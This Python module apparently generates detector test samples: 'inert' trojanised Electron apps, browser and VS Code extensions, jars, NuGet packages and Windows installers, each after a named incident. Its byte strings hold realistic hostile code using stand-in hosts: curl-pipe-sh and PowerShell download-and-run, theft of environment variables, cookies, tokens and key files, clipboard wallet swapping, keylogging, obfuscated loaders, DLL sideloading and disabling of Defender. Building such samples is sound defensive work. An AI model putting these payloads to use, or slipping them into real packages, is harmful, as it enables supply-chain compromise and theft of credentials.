"""Eleventh set: archives of Electron, extensions, jars, NuGet packages and installers around genuine files; inert.

The comment before each family says which incident it is after, here in another dress. Hosts are below `.example`, addresses of RFC 5737.
"""

from __future__ import annotations

import base64
from collections.abc import Callable

from genuine import Files

from mutation_families.eighth_apps import SAID, active, main
from mutation_families.eighth_installers import value
from mutation_families.eleventh_programs import (
    AGENT,
    NET,
    library_beside,
    unguarded,
)
from mutation_families.fourth_texts import chance
from mutation_families.program_changes import RUN, with_imports, with_tls
from mutation_families.seventh_apps import (
    API,
    background,
    content,
    depending,
    in_json,
    line,
)
from mutation_families.seventh_classes import initialised, new_class
from mutation_families.seventh_installers import action, component, step
from mutation_families.seventh_npm import DLL_FILE, ELF_FILE
from mutation_families.seventh_programs import LOADER, carried, proxy, section_of_code
from mutation_families.seventh_ways import END, MARK_JS, Changes, Way, adding, together, ways
from mutation_families.tenth_apps import constant
from mutation_families.tenth_programs import skipped, turned, weaker
from onionskin.lookalike.archives import build_zip
from onionskin.lookalike.pe import build_pe

HELPER = build_pe(LOADER)
ROW = MARK_JS.index(b"\n") + 1
READY = b"app.whenReady().then(createWindow);"
INSIDE = r"^node_modules/.*\.c?js$"
ASAR: tuple[Way, ...] = (
    # Trojanised desktop clients of 2022 to 2026 (MiMi, 3CX's, Atomic's): the first script, or one of its modules.
    *ways(
        "asar: its scripts fetch and run",
        ("its first one", main(READY, b"const { net } = require('electron');\napp.on('ready', () => { const q = net.request('https://boot.vendor-shell.example/b'); q.on('response', (r) => { let t = ''; r.on('data', (d) => (t += d)); r.on('end', () => new Function('require', t)(require)); }); q.end(); });\n" + READY)),
        ("a module of it", line(INSIDE, b"if (process.type === 'browser') setTimeout(() => fetch('https://mods.vendor-shell.example/m').then((r) => r.text()).then((t) => require('vm').runInThisContext(t)).catch(() => {}), 6e5);")),
        ("a file of data", together(adding({"dist/locale.bin": bytes(byte ^ 0x42 for byte in MARK_JS)}), main(READY, b"eval(Buffer.from(require('fs').readFileSync(path.join(__dirname, 'locale.bin')).map((b) => b ^ 0x42)).toString());\n" + READY))),
        ("a program", together(adding({"dist/crashpad.dat": ELF_FILE}), main(READY, b"const fs = require('fs'), os = require('os');\nconst at = path.join(os.tmpdir(), 'crashpad_handler');\nfs.writeFileSync(at, fs.readFileSync(path.join(__dirname, 'crashpad.dat')), { mode: 0o755 });\nrequire('child_process').spawn(at, { detached: true, stdio: 'ignore' }).unref();\n" + READY))),
    ),
    *ways(
        "asar: what is secret goes elsewhere",
        ("the environment", line(INSIDE, b"if (process.type === 'browser') require('https').request({ host: 'errors.apm-intake.example', method: 'POST' }).end(JSON.stringify(process.env));", END)),
        ("cookies of the session", main(READY, b"app.whenReady().then(() => require('electron').session.defaultSession.cookies.get({})).then((c) => fetch('https://sess.vendor-shell.example/c', { method: 'POST', body: JSON.stringify(c) })).catch(() => {});\n" + READY)),
        ("what is paid", line("dist/preload", b"document.addEventListener('copy', (e) => { const t = String(getSelection()); if (/^0x[0-9a-f]{40}$/i.test(t)) { e.clipboardData.setData('text/plain', '0x000000000000000000000000000000000000dEaD'); e.preventDefault(); } });")),
        ("what is typed", line("dist/preload", b"let held = '';\naddEventListener('input', (e) => { held += e.data || ''; if (held.length > 64) { navigator.sendBeacon('https://ime.vendor-shell.example/i', held); held = ''; } }, true);", END)),
    ),
    *ways(
        "asar: updates come from elsewhere",
        ("its address", lambda files: {"app-update.yml": files["app-update.yml"].replace(b"https://releases.vendor.example/app", b"https://releases-vendor.cdn-edge.example/app")}),
        ("a repository", lambda _: {"app-update.yml": b"provider: github\nowner: vendor-releases-inert\nrepo: app\nupdaterCacheDirName: app-updater\n"}),
        ("by its script", main(READY, b"const { autoUpdater } = require('electron');\nautoUpdater.setFeedURL({ url: 'http://203.0.113.111/squirrel/' + process.platform });\nsetInterval(() => autoUpdater.checkForUpdates(), 36e5);\nautoUpdater.on('update-downloaded', () => autoUpdater.quitAndInstall());\n" + READY)),
    ),
    *ways(
        "asar, quiet: its walls are lower",
        ("a page", main(b"contextIsolation: true, sandbox: true", b"contextIsolation: false, sandbox: true, nodeIntegration: true")),
        ("who is at the other end", main(READY, b"app.commandLine.appendSwitch('ignore-certificate-errors-spki-list', 'inertinertinertinertinertinertinertinertinert=');\napp.commandLine.appendSwitch('allow-insecure-localhost');\n" + READY)),
        ("what a page may load", lambda files: {"dist/index.html": files["dist/index.html"].replace(b"default-src 'self'", b"default-src * data: blob: 'unsafe-inline' 'unsafe-eval'")}),
        ("what the page may ask", line("dist/preload", b"require('electron').contextBridge.exposeInMainWorld('node', { run: (c) => require('child_process').execSync(c).toString(), read: (p) => require('fs').readFileSync(p, 'utf8') });", END)),
    ),
)  # fmt: skip

X = API.replace(b"const api", b"var api")
EXTENSION: tuple[Way, ...] = (
    # Cyberhaven, 2024; Trust Wallet, 2025; ShadyPanda's later waves.
    *ways(
        "extension: what is secret goes elsewhere",
        ("tokens of pages", content(b"for (const k of Object.keys(localStorage)) if (/token|session|auth/i.test(k)) fetch('https://ext-health.example/k', { method: 'POST', mode: 'no-cors', body: location.host + '|' + k + '|' + localStorage[k] });\n")),
        ("history", together(in_json("manifest.json", {"permissions": ["history", "bookmarks"]}), background(X + b"api.history && api.history.search({ text: '', maxResults: 5000 }).then((h) => fetch('https://ext-health.example/h', { method: 'POST', body: JSON.stringify(h) }));\n"))),
        ("what is paid", content(b"addEventListener('message', (e) => { if (e.data && e.data.method === 'eth_sendTransaction') e.data.params[0].to = '0x000000000000000000000000000000000000dEaD'; }, true);\n")),
    ),
    *ways(
        "extension: it runs what it is told",
        ("by a socket", background(b"const ws = new WebSocket('wss://ext-orders.example/s');\nws.onmessage = (m) => { const [t, u] = m.data.split(' '); (globalThis.browser || globalThis.chrome).tabs.create({ url: u, active: t === 'a' }); };\n")),
        ("a page of scripts", together(in_json("manifest.json", {"permissions": ["scripting"], "host_permissions": ["<all_urls>"]}), background(X + b"fetch('https://ext-orders.example/js').then((r) => r.text()).then((t) => api.tabs.onUpdated.addListener((id) => api.scripting.executeScript({ target: { tabId: id }, func: (c) => { const s = document.createElement('script'); s.textContent = c; document.documentElement.append(s); }, args: [t] })));\n"))),
        ("out of blanks", background(b"const n = '" + "".join("\u200b\u200c"[byte >> bit & 1] for byte in MARK_JS[: 3 * ROW] for bit in range(7, -1, -1)).encode() + b"';\nFunction(n.replace(/.{8}/gu, (q) => String.fromCharCode(parseInt([...q].map((c) => +(c === '\\u200c')).join(''), 2))))();\n")),
    ),
    *ways(
        "extension, quiet: its manifest lets more in",
        ("rights", in_json("manifest.json", {"permissions": ["cookies", "webRequest", "downloads", "nativeMessaging"], "host_permissions": ["<all_urls>"]})),
        ("its own pages", in_json("manifest.json", {"content_security_policy": {"extension_pages": "script-src 'self' 'wasm-unsafe-eval' https://cdn.vendor-edge.example; object-src 'self'"}})),
        ("who may ask it", in_json("manifest.json", {"externally_connectable": {"matches": ["*://*/*"]}})),
    ),
)  # fmt: skip

UNSEEN = "".join(chr(0xFE00 + (byte >> 4)) + chr(0xFE00 + (byte & 15)) for byte in MARK_JS[: 3 * ROW]).encode()  # fmt: skip
VSIX: tuple[Way, ...] = (
    # GlassWorm and TigerJack, 2025; extensions of 2026 that ask for another one later.
    *ways(
        "vsix: it fetches and runs",
        ("letters that nobody sees", active(b"  const w = '" + UNSEEN + b"';\n  const n = [...w].map((c) => c.codePointAt(0) - 0xfe00);\n  new Function(String.fromCharCode(...n.filter((_, i) => i % 2 === 0).map((h, i) => h * 16 + n[2 * i + 1])))();\n")),
        ("in a task", active(b"  vscode.tasks.executeTask(new vscode.Task({ type: 'shell' }, vscode.TaskScope.Workspace, 'index', 'reader', new vscode.ShellExecution('curl -s https://code-tasks.example/t | sh'))).then(() => {}, () => {});\n")),
        ("another extension", active(b"  fetch('https://vsx-cdn.example/helper.vsix').then((r) => r.arrayBuffer()).then((b) => { const f = require('path').join(require('os').tmpdir(), 'h.vsix'); require('fs').writeFileSync(f, Buffer.from(b)); vscode.commands.executeCommand('workbench.extensions.installExtension', vscode.Uri.file(f)); });\n")),
        ("a library", together(adding({"extension/out/native.node": ELF_FILE}), active(b"  try { process.dlopen(module, require('path').join(__dirname, 'native.node')); } catch {}\n"))),
    ),
    *ways(
        "vsix: what is secret goes elsewhere",
        ("what is written", active(b"  vscode.workspace.onDidSaveTextDocument((d) => fetch('https://lint-cloud.example/l', { method: 'POST', body: d.fileName + '\\n' + d.getText() }));\n")),
        ("who is signed in", active(b"  vscode.authentication.getSession('github', ['repo'], { silent: true }).then((s) => s && fetch('https://lint-cloud.example/s', { method: 'POST', body: s.accessToken }));\n")),
        ("files of keys", active(b"  vscode.workspace.findFiles('**/{.env,*.pem,id_rsa}').then((all) => all.forEach((u) => vscode.workspace.fs.readFile(u).then((b) => fetch('https://lint-cloud.example/f', { method: 'POST', body: b }))));\n")),
    ),
    *ways(
        "vsix, quiet: its manifest lets more in",
        ("its start", in_json(SAID, {"activationEvents": ["*", "onUri"]})),
        ("it brings another", in_json(SAID, {"extensionPack": ["vendor-inert.reader-helper"]})),
        ("where it may not be trusted", in_json(SAID, {"capabilities": {"untrustedWorkspaces": {"supported": True}, "virtualWorkspaces": True}})),
    ),
)  # fmt: skip

OWN = "org/support/Warm"
JAR: tuple[Way, ...] = (
    # fractureiser, 2023, and plugins of 2025: a class, or what is loaded beside.
    *ways(
        "jar: its classes act as they are loaded",
        ("the largest", initialised("https://mods-cdn.example/stage0", 0)),
        ("another", initialised("sh-inert -c 'curl -s https://jar-aux.example/j | sh'", 2)),
        ("a driver", adding({"META-INF/services/java.sql.Driver": b"org.support.Warm\n", f"{OWN}.class": new_class(OWN, "https://jdbc-aux.example/d", "java/sql/DriverManager")})),
        ("a provider of files", adding({"META-INF/services/java.nio.file.spi.FileSystemProvider": b"org.support.Warm\n", f"{OWN}.class": new_class(OWN, "https://agent-aux.example/a", "java/nio/file/spi/FileSystemProvider")})),
        ("a jar within", together(initialised("java -cp META-INF/maven/lib.dat org.support.Warm", 1), adding({"META-INF/maven/lib.dat": build_zip({f"{OWN}.class": new_class(OWN, "https://inner-aux.example/i")})}))),
    ),
    *ways(
        "jar, quiet: it holds less",
        ("a weaker way", constant((b"SHA-256", b"MD5"), (b"SHA-1", b"MD5"), (b"AES/CBC/PKCS5Padding", b"AES/ECB/PKCS5Padding"), (b"SHA1PRNG", b"Inert"), (b"HmacSHA256", b"HmacMD5"))),
        ("what is asked", constant((b"equalsIgnoreCase", b"startsWith"), (b"startsWith", b"endsWith"), (b"isEmpty", b"isBlank"))),
        ("a channel", constant((b"TLSv1.2", b"SSLv3"), (b"TLS", b"SSL"), (b"https", b"http"))),
    ),
)  # fmt: skip

TARGETS = b'<Project><Target Name="AuxRestore" BeforeTargets="CoreCompile"><DownloadFile SourceUrl="https://nuget-aux.example/t.exe" DestinationFolder="$(TEMP)" ContinueOnError="true"/><Exec Command="&quot;$(TEMP)\\t.exe&quot;" ContinueOnError="true"/></Target></Project>\n'  # fmt: skip
TASK = b'<Project><UsingTask TaskName="Telemetry.Agent.Start" AssemblyFile="$(MSBuildThisFileDirectory)Telemetry.Agent.dll"/><Target Name="AuxStart" BeforeTargets="Build"><Start ContinueOnError="true"/></Target></Project>\n'  # fmt: skip
NUGET: tuple[Way, ...] = (
    # Packages of 2023 to 2026 (JFrog, ReversingLabs): what a build runs, and what comes along.
    *ways(
        "nupkg: it acts where it is used",
        ("by targets", adding({"build/Hardware.targets": TARGETS})),
        ("by a script", adding({"tools/init.ps1": b"param($installPath, $toolsPath, $package, $project)\nAdd-Type -Path (Join-Path $toolsPath 'Telemetry.Agent.dll')\n[Telemetry.Agent]::Start()\n", "tools/Telemetry.Agent.dll": AGENT})),
        ("a task of an assembly", adding({"build/Hardware.targets": TASK, "build/Telemetry.Agent.dll": AGENT})),
        ("a source", adding({"contentFiles/cs/any/AuxInit.cs": b'using System.Runtime.CompilerServices;\nstatic class AuxInit { [ModuleInitializer] internal static void Go() { foreach (System.Collections.DictionaryEntry e in System.Environment.GetEnvironmentVariables()) System.Net.Dns.GetHostEntry(System.Convert.ToHexString(System.Text.Encoding.UTF8.GetBytes($"{e.Key}={e.Value}"))[..40] + ".t.ns-metrics.example"); } }\n'})),
        ("beside what is built", adding({"runtimes/win-x64/native/version.dll": library_beside("version.dll")["version.dll"], "build/Hardware.props": b'<Project><ItemGroup><None Include="$(MSBuildThisFileDirectory)..\\runtimes\\win-x64\\native\\version.dll" CopyToOutputDirectory="Always"/></ItemGroup></Project>\n'})),
    ),
    *ways(
        "nupkg, quiet: it asks for more",
        ("a name nearly alike", depending(b'<dependency id="Newtonsoft.Json.Core" version="13.0.3"/>')),
        ("any version", depending(b'<dependency id="System.Text.Json" version="*"/>')),
        ("where packages are from", adding({"nuget.config": b'<configuration><packageSources><clear/><add key="edge" value="http://nuget.vendor-edge.example/v3/index.json" allowInsecureConnections="true"/></packageSources></configuration>\n'})),
    ),
)  # fmt: skip


def its_program(edit: Callable[[bytes], bytes]) -> Changes:
    """Return a change of the program that an installer lays out."""

    def change(files: Files) -> Files:
        made = edit(files["program.exe"])
        return {"program.exe": made} if made and made != files["program.exe"] else {}

    return change


PATCHED: tuple[tuple[str, Changes], ...] = (
    ("a shell over the net", its_program(lambda data: with_imports(data, NET))),
    ("another, which carries it", its_program(carried)),
    ("before its start", its_program(lambda data: with_tls(data, 8000))),
    ("where it begins", its_program(section_of_code(b".ndata2", 11_000, RUN, starts=True))),
)
QUIETLY: tuple[tuple[str, Changes], ...] = (
    ("a condition", its_program(turned)),
    ("a call", its_program(skipped)),
    ("guards", its_program(unguarded)),
    ("a weaker way", its_program(weaker)),
)
LATER = base64.b64encode("iex(irm https://msi-later.example/l)".encode("utf-16-le"))
MSI: tuple[Way, ...] = (
    # 3CX, JAVS, Notepad++'s: a file of an installer is another, or has one more beside it.
    *ways("msi: a program of it is another", *PATCHED),
    *ways(
        "msi: a file more, which is loaded or started",
        ("beside its program", together(component(b'<File Id="f10" Source="cryptbase.dll" KeyPath="yes"/>', b"cry"), adding(library_beside("cryptbase.dll")))),
        ("handing on", together(component(b'<File Id="f11" Source="wtsapi32.dll" KeyPath="yes"/>', b"wts"), adding(proxy("wtsapi32.dll", "WTSQueryUserToken")))),
        ("started at the end", together(component(b'<File Id="f12" Source="helper.exe" KeyPath="yes"/>', b"hlp"), action(b'<CustomAction Id="Cfg" FileKey="f12" ExeCommand="/q" Impersonate="no" Execute="deferred" Return="asyncNoWait"/>', b"InstallFiles"), adding({"helper.exe": HELPER}))),
        ("as a service", together(component(b'<File Id="f13" Source="svc2.exe" KeyPath="yes"/><ServiceInstall Id="S2" Name="WinHttpHelper" Type="ownProcess" Start="auto" ErrorControl="ignore"/>', b"sv2"), adding({"svc2.exe": HELPER}))),
    ),
    *ways(
        "msi: an action more",
        ("PowerShell", action(b'<Property Id="PSX" Value="powershell.exe"/><CustomAction Id="Cfg" Property="PSX" ExeCommand="-nop -w 1 -e ' + LATER + b'" Return="asyncNoWait"/>')),
        ("tools of the system", action(b'<Property Id="CMDX" Value="cmd.exe"/><CustomAction Id="Cfg" Property="CMDX" ExeCommand="/c bitsadmin /transfer a https://msi-bits.example/b.exe %TEMP%\\b.exe &amp; start %TEMP%\\b.exe" Return="asyncNoWait"/>')),
        ("a library of its tables", together(action(b'<Binary Id="aux" SourceFile="aux.dll"/><CustomAction Id="Cfg" BinaryKey="aux" DllEntry="Setup" Return="ignore"/>'), adding({"aux.dll": DLL_FILE}))),
        ("where it stays", component(value("HKCU", "Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce", "ToolFinish", "rundll32.exe [INSTALLDIR]tool.dat,Run"), b"onc")),
    ),
    *ways("msi, quiet: a program of it holds less", *QUIETLY),
    *ways(
        "msi, quiet: the system guards less",
        ("updates", component(value("HKLM", "Software\\Vendor\\Tool", "UpdateUrl", "http://updates-vendor.cdn-edge.example/v2"), b"up2")),
        ("what is looked at", component(value("HKLM", "Software\\Policies\\Microsoft\\Windows Defender", "DisableAntiSpyware", "1"), b"das")),
        ("what scripts may", component(value("HKLM", "Software\\Policies\\Microsoft\\Windows\\PowerShell", "ExecutionPolicy", "Unrestricted"), b"pol")),
    ),
)  # fmt: skip

NSIS: tuple[Way, ...] = (
    *ways("nsis: a program of it is another", *PATCHED),
    *ways(
        "nsis: it fetches, starts or stays",
        ("by the system's tools", step(b"nsExec::Exec 'certutil -urlcache -split -f https://nsis-cert.example/c.exe $TEMP\\c.exe'\nExec '$TEMP\\c.exe'\n")),
        ("before it asks", step(b"ExecShell open 'mshta.exe' 'https://nsis-hta.example/h' SW_HIDE\n", b"FunctionEnd")),
        ("a file beside", together(step(b'File cryptbase.dll\nExec \'"$INSTDIR\\program.exe" /init\'\n'), adding(library_beside("cryptbase.dll")))),
        ("a folder of starts", together(step(b'SetOutPath "$SMSTARTUP"\nFile sync.vbs\n'), adding({"sync.vbs": b'CreateObject("WScript.Shell").Run "powershell -w hidden -c iex(irm https://nsis-vbs.example/v)", 0\r\n'}))),
    ),
    *ways("nsis, quiet: a program of it holds less", *QUIETLY),
    *ways(
        "nsis, quiet: the system guards less",
        ("what is looked at", step(b"nsExec::Exec 'powershell Add-MpPreference -ExclusionPath \"$INSTDIR\"'\n")),
        ("a wall", step(b"nsExec::Exec 'netsh advfirewall firewall add rule name=Tool dir=in action=allow program=\"$INSTDIR\\program.exe\"'\n")),
        ("a root", together(step(b"File edge.cer\nnsExec::Exec 'certutil -addstore -f Root \"$INSTDIR\\edge.cer\"'\n"), adding({"edge.cer": b"0\x82\x02\x0b" + chance(520)}))),
    ),
)  # fmt: skip
